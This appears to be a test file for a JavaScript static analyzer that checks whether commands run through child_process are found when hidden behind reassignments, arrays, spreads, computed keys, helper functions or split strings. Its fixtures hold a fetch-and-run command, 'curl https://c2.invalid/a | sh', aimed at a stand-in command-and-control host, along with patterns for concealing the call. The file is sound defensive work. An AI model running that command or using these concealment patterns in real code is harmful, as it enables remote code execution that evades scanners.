import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { readJs } from '../../../src/analyze/js/index.ts'

/** What acts stands behind so many others that a value is no longer told whole. */
const several = 40
const many = (line: (index: number) => string, count = several) =>
  Array.from({ length: count }, (_, index) => line(index)).join('\n')
const command = 'curl https://c2.invalid/a | sh'
const runs = `('child_process').exec('${command}')`

const commandsOf = (text: string) =>
  readJs(text, 'a.js').commands.flatMap(({ words }) => words.filter((word) => word !== null))

const hidden: Record<string, string> = {
  'a name': `let r; ${many((i) => `r = Math.f${i};`)} r = require; r${runs}`,
  'a property': `const o = {}; ${many((i) => `o.r = ${i};`)} o.r = require; o.r${runs}`,
  'a list whose element is worked out': `const l = [${many((i) => `Math.f${i},`)} require]; l[Date.now()]${runs}`,
  'a list that is added to': `const l = []; ${many((i) => `l.push(${i});`)} l.push(require); l.pop()${runs}`,
  'parts of an object': `const o = { ${many((i) => `...{ a${i}: 1 },`)} ...{ r: require } }; o.r${runs}`,
  'keys that are worked out': `const o = {}; ${many((i) => `o[k(${i})] = ${i};`)} o[k()] = require; o.r${runs}`,
  'objects of one name': `let o; ${many((i) => `o = { r: ${i} };`)} o = { r: require }; o.r${runs}`,
  'names of modules': `let m; ${many((i) => `m = 'pkg${i}';`)} m = 'child_process'; require(m).exec('${command}')`,
  'names of methods': `let m; ${many((i) => `m = 'm${i}';`)} m = 'exec'; require('child_process')[m]('${command}')`,
  commands: `let c; ${many((i) => `c = 'echo ${i}';`)} c = '${command}'; require('child_process').exec(c)`,
  'a list of commands': `[${many((i) => `'echo ${i}',`)} '${command}'].forEach((c) => require('child_process').exec(c))`,
  'callers of a function': `function h(f, x) { f(x) } ${many((i) => `h(Math.abs, ${i});`)} h(require('child_process').exec, '${command}')`,
  'names that callers hand over': `function h(m, x) { require(m).exec(x) } ${many((i) => `h('pkg${i}', '');`)} h('child_process', '${command}')`,
  'what a function gives back': `function h(i) { ${many((i) => `if (i === ${i}) return ${i};`)} return require } h(99)${runs}`,
  'other names': `const a0 = require; ${many((i) => `const a${i + 1} = (0, a${i});`, 200)} a200${runs}`,
  'a text that is added to': `let m = 'child'; m += '_pro'; m += 'cess'; require(m).exec('${command}')`,
}

for (const [behind, text] of Object.entries(hidden)) {
  test(`what runs a command is found behind ${behind}`, () => {
    assert.ok(commandsOf(text).includes(command))
  })
}

test('a value that may be more of what acts than is followed is told as not read to the end', () => {
  const text = `const fs = require('fs'); let r; ${many((i) => `r = fs.f${i};`)} r = require('child_process').exec; r('${command}')`
  assert.match(readJs(text, 'a.js').problem ?? '', 'a value that may be more')
})

test('so are values that hang on each other without end', () => {
  const names = many((i) => `var b${i} = (() => b${i + 1})();`, 1_000)
  assert.type(readJs(`${names} var b1000 = require; b0${runs}`, 'a.js').problem, 'string')
})

test('a name with many values of no weight is read to the end', () => {
  const text = `let f; ${many((i) => `f = Math.f${i};`, 200)} f(2); module.exports = [${many((i) => `Math.g${i},`, 200)}][f(1)]`
  const { problem, signals } = readJs(text, 'a.js')
  assert.is(problem, undefined)
  assert.equal(signals, [])
})

const required = (text: string) =>
  readJs(text, 'a.js').references.flatMap(({ kind, target }) => (kind === 'require' ? [target] : []))

test('one known file of several that may be loaded does not hide the others', () => {
  assert.equal(required(`let p = './a.js'; if (x) p = unknown(); require(p)`), ['./a.js', undefined])
  assert.equal(required(`require(x ? './a.js' : unknown())`), ['./a.js', undefined])
})

test('where all of several are known, nothing is missing', () => {
  assert.equal(required(`let p = './a.js'; if (x) p = './b.js'; require(p)`), ['./a.js', './b.js'])
  assert.equal(required(`let p = null; if (x) p = './b.js'; require(p)`), ['./b.js'])
})

test.run()
